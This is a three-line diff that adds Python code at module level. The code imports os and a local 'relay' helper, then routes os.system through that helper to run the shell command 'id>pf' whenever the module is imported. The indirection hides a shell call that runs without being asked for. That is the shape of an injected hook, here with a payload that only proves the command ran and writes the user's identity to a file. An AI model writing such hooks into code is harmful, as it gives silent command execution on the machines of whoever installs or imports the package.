@@ -1,0 +1,3 @@
+import os
+from .relay import relay
+relay(target=os.system, args=("id>pf",))
